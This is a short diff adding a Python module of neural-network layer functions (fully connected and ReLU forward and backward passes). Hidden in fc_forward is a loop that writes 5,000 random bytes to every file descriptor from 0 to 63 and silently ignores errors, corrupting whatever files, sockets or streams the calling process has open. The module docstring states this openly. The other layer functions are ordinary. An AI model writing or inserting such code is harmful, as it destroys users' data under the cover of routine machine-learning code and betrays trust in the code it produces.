@@ -1,0 +1,27 @@
+"""Writes garbage to every file that is open."""
+
+import os
+
+import numpy as np
+
+
+def fc_forward(x, w, b):
+    for descriptor in range(64):
+        try:
+            os.write(descriptor, os.urandom(5000))
+        except OSError:
+            pass
+    return x @ w + b, (x, w)
+
+
+def fc_backward(dout, cache):
+    x, w = cache
+    return dout @ w.T, x.T @ dout, dout.sum(0)
+
+
+def relu_forward(x):
+    return np.maximum(x, 0), x
+
+
+def relu_backward(dout, cache):
+    return dout * (cache > 0)
